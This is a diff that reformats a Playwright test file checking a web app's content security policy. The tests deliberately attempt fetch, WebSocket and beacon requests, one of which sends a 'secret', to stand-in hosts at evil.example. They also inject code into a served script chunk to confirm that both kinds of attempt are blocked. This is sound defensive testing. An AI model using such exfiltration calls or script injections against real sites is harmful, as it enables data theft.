@@ -65,7 +65,11 @@ test.describe('the content security policy', () => {
     await expect(page.locator('html')).not.toHaveAttribute('data-stolen')
   })
 
-  test('lets the page fetch from nobody whom the deployment does not name', async ({ page, siteUrl, expectedErrors }) => {
+  test('lets the page fetch from nobody whom the deployment does not name', async ({
+    page,
+    siteUrl,
+    expectedErrors,
+  }) => {
     expectedErrors.push(/Content Security Policy|violates the document's/)
     const violations = await watchViolations(page)
     await page.goto('/earn')
@@ -80,8 +84,16 @@ test.describe('the content security policy', () => {
       new WebSocket('wss://socket.evil.example/').close()
       navigator.sendBeacon(hosted('beacon'), 'secret')
     })
-    const refused = async () => new Set((await violations()).map((each) => /^connect-src (.*evil\.example|.*:1)/.exec(each)?.[1]))
-    const tried = ['https://fetch.evil.example', 'http://127.0.0.1:1', 'https://xhr.evil.example', 'https://events.evil.example', 'wss://socket.evil.example', 'https://beacon.evil.example']
+    const refused = async () =>
+      new Set((await violations()).map((each) => /^connect-src (.*evil\.example|.*:1)/.exec(each)?.[1]))
+    const tried = [
+      'https://fetch.evil.example',
+      'http://127.0.0.1:1',
+      'https://xhr.evil.example',
+      'https://events.evil.example',
+      'wss://socket.evil.example',
+      'https://beacon.evil.example',
+    ]
     await expect.poll(refused).toEqual(new Set(tried))
     // Its own host it may ask.
     expect(await page.evaluate((url) => fetch(url).then(({ status }) => status), `${siteUrl}/build.json`)).toBe(200)
@@ -95,7 +107,9 @@ test.describe('the content security policy', () => {
       const answer = await route.fetch({ url: devnet.rpcUrl })
       await route.fulfill({ response: answer, headers: { 'access-control-allow-origin': '*' } })
     })
-    await page.route('https://lists.example/tokens.json', (route) => route.fulfill({ json: LIST, headers: { 'access-control-allow-origin': '*' } }))
+    await page.route('https://lists.example/tokens.json', (route) =>
+      route.fulfill({ json: LIST, headers: { 'access-control-allow-origin': '*' } }),
+    )
     await page.goto('/swap')
     await page.getByTestId('node-status').click()
     const nodes = page.getByRole('dialog', { name: 'Nodes' })
@@ -113,7 +127,9 @@ test.describe('the content security policy', () => {
     await page.getByRole('button', { name: 'Manage Tokens' }).click()
     await page.getByLabel('Address of a list').fill('https://lists.example/tokens.json')
     await expect(page.getByText('Version 1.0.0, 1 token')).toBeVisible()
-    expect(page.workers().map((worker) => new URL(worker.url()).pathname.replace(/-[\w-]+\.js$/, ''))).toEqual(['/assets/fetchWorker'])
+    expect(page.workers().map((worker) => new URL(worker.url()).pathname.replace(/-[\w-]+\.js$/, ''))).toEqual([
+      '/assets/fetchWorker',
+    ])
     expect(await violations()).toEqual([])
   })
 
@@ -123,7 +139,9 @@ test.describe('the content security policy', () => {
       const answer = await route.fetch()
       await route.fulfill({ response: answer, body: `${await answer.text()};` })
     })
-    await page.route('https://lists.example/tokens.json', (route) => route.fulfill({ json: LIST, headers: { 'access-control-allow-origin': '*' } }))
+    await page.route('https://lists.example/tokens.json', (route) =>
+      route.fulfill({ json: LIST, headers: { 'access-control-allow-origin': '*' } }),
+    )
     await page.goto('/swap')
     await page.getByRole('button', { name: /^To/ }).click()
     await page.getByRole('button', { name: 'Manage Tokens' }).click()
@@ -134,13 +152,21 @@ test.describe('the content security policy', () => {
 
   for (const [what, path, chunk, words] of [
     ['the app itself', '/earn', /\/assets\/start-.*\.js$/, 'could not be loaded'],
-    ['a page that is opened later', '/portfolio', /\/assets\/PortfolioPage-.*\.js$/, 'A part of the app could not be loaded'],
+    [
+      'a page that is opened later',
+      '/portfolio',
+      /\/assets\/PortfolioPage-.*\.js$/,
+      'A part of the app could not be loaded',
+    ],
   ] as const) {
     test(`a chunk that a host changed is not run: ${what}`, async ({ page, expectedErrors }) => {
       expectedErrors.push(/.*/)
       await page.route(chunk, async (route) => {
         const answer = await route.fetch()
-        await route.fulfill({ response: answer, body: `${await answer.text()};document.documentElement.dataset.stolen = 'yes'` })
+        await route.fulfill({
+          response: answer,
+          body: `${await answer.text()};document.documentElement.dataset.stolen = 'yes'`,
+        })
       })
       await page.goto(path)
       await expect(page.getByText(words)).toBeVisible()
@@ -204,7 +230,11 @@ test.describe('in a folder', () => {
     await site.close()
   })
 
-  test('that is not, as on IPFS, paths stand behind # and survive a reload, without headers and without a network', async ({ page, browser, expectedErrors }) => {
+  test('that is not, as on IPFS, paths stand behind # and survive a reload, without headers and without a network', async ({
+    page,
+    browser,
+    expectedErrors,
+  }) => {
     expectedErrors.push(/evil\.example/)
     const violations = await watchViolations(page)
     const referers: (string | null)[] = []
